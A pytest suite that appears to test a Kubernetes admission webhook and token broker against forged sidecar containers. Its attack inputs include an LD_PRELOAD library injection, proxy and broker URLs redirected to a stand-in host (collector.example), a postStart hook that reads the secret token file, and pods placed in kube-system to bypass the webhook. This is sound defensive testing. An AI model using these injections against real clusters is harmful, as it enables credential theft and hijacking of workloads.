"""Our container written by hand, with and without the webhook, and what the broker says."""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from support.kubernetes.kube import Kube
from support.scenarios import attacks, scenes
from support.scenarios.attacks import CONNECTOR, Scene, edited, forged_sidecar, forged_volumes, idle_pod
from webhook import names

TOKEN_FILE = "/var/run/secrets/pypi-connector/token"
KUBE_SYSTEM = "kube-system"
"""The webhook is not asked about it; the guards are"""


def presenting(scene: Scene) -> list[str]:
    """The program that sends our token to the broker itself, and stays."""
    return attacks.python("present", TOKEN_FILE, f"{scene.namespace}/{CONNECTOR}", "3600")


def answer(kube: Kube, namespace: str, pod: str) -> dict[str, Any]:
    """The broker's answer, as the forged container has logged it."""
    told = kube.wait_for(lambda: kube.logs(pod, namespace, names.SIDECAR).strip(), what="the broker's answer")
    found = json.loads(told.splitlines()[0])
    return {"status": found["status"], **json.loads(found["body"])}


def test_what_the_author_writes_into_our_container_is_gone_before_it_runs(scene: Scene) -> None:
    """The author's image, command, hook, variables, mount and user: admission rewrites the container."""
    forged = forged_sidecar(
        presenting(scene),
        args=["--more"],
        env=[
            {"name": "LD_PRELOAD", "value": "/etc/evil/evil.so"},
            {"name": "HTTPS_PROXY", "value": "http://collector.example:3128"},
            {"name": "SIDECAR_BROKER_URL", "value": "https://collector.example"},
            {"name": "NOTE", "value": "of the author"},
        ],
        envFrom=[{"configMapRef": {"name": "evil"}}],
        lifecycle={"postStart": {"exec": {"command": ["cat", TOKEN_FILE]}}},
        securityContext={"runAsUser": 0, "allowPrivilegeEscalation": True},
    )
    forged["volumeMounts"].append({"name": "evil", "mountPath": "/etc/evil"})
    pod = idle_pod("rewritten", CONNECTOR, script="pip download -d /tmp hello-connector; exec sleep 3600")
    pod = edited(pod, initContainers=[forged], volumes=[*forged_volumes(), {"name": "evil", "emptyDir": {}}])
    scene.author.create(pod, namespace=scene.namespace)

    written = attacks.sidecar_of(scene.kube.get("pod", "rewritten", scene.namespace))
    untouched = attacks.sidecar_of(scene.kube.get("pod", attacks.VICTIM, scene.namespace))
    for field in ("image", "command", "securityContext"):
        assert written[field] == untouched[field], field
    gates = [one["lifecycle"]["postStart"]["exec"]["command"] for one in (written, untouched)]
    assert gates[0][:5] == gates[1][:5]  # behind them come the ports, of which the victim has two
    assert not {"args", "envFrom"} & written.keys()
    ours = [one for one in written["env"] if one["name"].startswith("SIDECAR_")]
    assert {one["name"] for one in written["env"]} - {one["name"] for one in ours} == {"NOTE"}
    broker = next(one["value"] for one in ours if one["name"] == "SIDECAR_BROKER_URL")
    assert broker == "https://pypi-connector-broker.pypi-connector-system.svc"
    assert "/etc/evil" not in json.dumps(written)

    scene.kube.wait_for(lambda: "Saved" in scene.kube.logs("rewritten", scene.namespace, "main"))
    assert '"action":"file"' in scene.kube.logs("rewritten", scene.namespace, names.SIDECAR)


def test_a_pod_that_opts_out_of_the_webhook_opts_out_of_grants(scene: Scene) -> None:
    """The author writes all that the webhook would, for a program of their own: its token is no good."""
    pod = edited(
        idle_pod("by-hand", CONNECTOR),
        initContainers=[forged_sidecar(presenting(scene))],
        volumes=forged_volumes(),
    )
    pod["metadata"]["annotations"][names.INJECT] = "false"
    scene.author.create(pod, namespace=scene.namespace)
    said = answer(scene.kube, scene.namespace, "by-hand")
    assert (said["status"], said["reason"]) == (403, "ConnectorNotNamed")
    assert f"does not name Connector {scene.namespace}/{CONNECTOR}" in said["detail"]


def test_the_image_of_a_forged_sidecar_is_not_put_right_afterwards(scene: Scene) -> None:
    """A program that has read the token would still run while the Pod's spec names the right one."""
    forged = forged_sidecar(["sleep", "3600"])
    pod = edited(idle_pod("late", CONNECTOR), initContainers=[forged], volumes=forged_volumes())
    pod["metadata"]["annotations"][names.INJECT] = "false"
    scene.author.create(pod, namespace=scene.namespace)
    right = attacks.sidecar_of(scene.kube.get("pod", attacks.VICTIM, scene.namespace))["image"]
    command = ("set", "image", "pod/late", f"{names.SIDECAR}={right}", "-n", scene.namespace)
    result = scene.author.run(*command, check=False)
    assert result.returncode != 0, result.stdout
    assert "the image of container pypi-connector cannot be changed once the Pod exists" in result.stderr


@pytest.fixture(scope="module")
def unreviewed(scene: Scene) -> Iterator[Kube]:
    """The author in a namespace whose Pods the webhook does not see."""
    scene.kube.apply(attacks.RIGHTS, namespace=KUBE_SYSTEM)
    yield scene.author
    scene.kube.run("delete", "pod", "-l", "attack", "-n", KUBE_SYSTEM, "--wait=false")
    scene.kube.run("delete", "-f", "-", "-n", KUBE_SYSTEM, stdin=attacks.RIGHTS)


def unreviewed_pod(scene: Scene, name: str, forged: scenes.Manifest) -> scenes.Manifest:
    pod = idle_pod(name, f"{scene.namespace}/{CONNECTOR}")
    pod["metadata"]["labels"] = {"attack": name}
    return edited(pod, initContainers=[forged], volumes=forged_volumes())


def test_past_the_webhook_another_image_gets_no_grant(scene: Scene, unreviewed: Kube) -> None:
    pod = unreviewed_pod(scene, f"image-{scene.namespace}", forged_sidecar(presenting(scene)))
    unreviewed.create(pod, namespace=KUBE_SYSTEM)
    said = answer(scene.kube, KUBE_SYSTEM, pod["metadata"]["name"])
    assert (said["status"], said["reason"]) == (403, "SidecarImage")
    assert f"runs '{scenes.WORKLOAD}', which is not an allowed image" in said["detail"]


def test_past_the_webhook_a_hook_in_the_right_sidecar_gets_no_grant(scene: Scene, unreviewed: Kube) -> None:
    """Everything else is as injected; the hook runs beside our program, where the token lies."""
    right = attacks.sidecar_of(scene.kube.get("pod", attacks.VICTIM, scene.namespace))
    hook = {"postStart": {"exec": {"command": presenting(scene)[:-1]}}}
    forged = forged_sidecar(
        right["command"],
        image=right["image"],
        env=right["env"],
        lifecycle=hook,
        terminationMessagePolicy=right["terminationMessagePolicy"],
    )
    pod = unreviewed_pod(scene, f"hook-{scene.namespace}", forged)
    unreviewed.create(pod, namespace=KUBE_SYSTEM)
    said = attacks.broker_refusal(scene.kube, KUBE_SYSTEM, pod["metadata"]["name"], "SidecarLifecycle")
    assert said.endswith("container pypi-connector has another lifecycle than the start gate")


@pytest.mark.parametrize(
    ("fields", "sentence"),
    [
        ({"env": [{"name": "LD_PRELOAD", "value": "/evil.so"}]}, "must not have the variable LD_PRELOAD"),
        ({"env": [{"name": "HTTPS_PROXY", "value": "http://x"}]}, "must not have the variable HTTPS_PROXY"),
        ({"args": ["-c", "x"]}, "must be as it was injected, without args"),
        ({"securityContext": {}}, "the securityContext of container pypi-connector must be as it was"),
    ],
    ids=["LD_PRELOAD", "HTTPS_PROXY", "args", "security"],
)
def test_past_the_webhook_the_guards_refuse_what_they_can_see(
    scene: Scene, unreviewed: Kube, fields: dict[str, Any], sentence: str
) -> None:
    pod = unreviewed_pod(scene, "refused", forged_sidecar(["python3", "-I", "-m", "sidecar"], **fields))
    assert sentence in unreviewed.refused(pod, namespace=KUBE_SYSTEM)


def test_without_the_sidecar_no_pod_starts_past_the_webhook(scene: Scene, unreviewed: Kube) -> None:
    pod = idle_pod("bare", f"{scene.namespace}/{CONNECTOR}")
    assert "Pods of namespace kube-system are not served" in unreviewed.refused(pod, namespace=KUBE_SYSTEM)


def test_a_pods_api_token_is_none_for_the_broker(scene: Scene) -> None:
    """Every container has this token."""
    file = f"{names.SERVICE_ACCOUNT_DIR}/token"
    said = scene.run("present", file, f"{scene.namespace}/{CONNECTOR}", container="main")
    body = json.loads(said["body"])
    assert (said["status"], body["reason"]) == (401, "TokenNotAuthenticated")
    assert "the API server does not accept the token" in body["detail"]
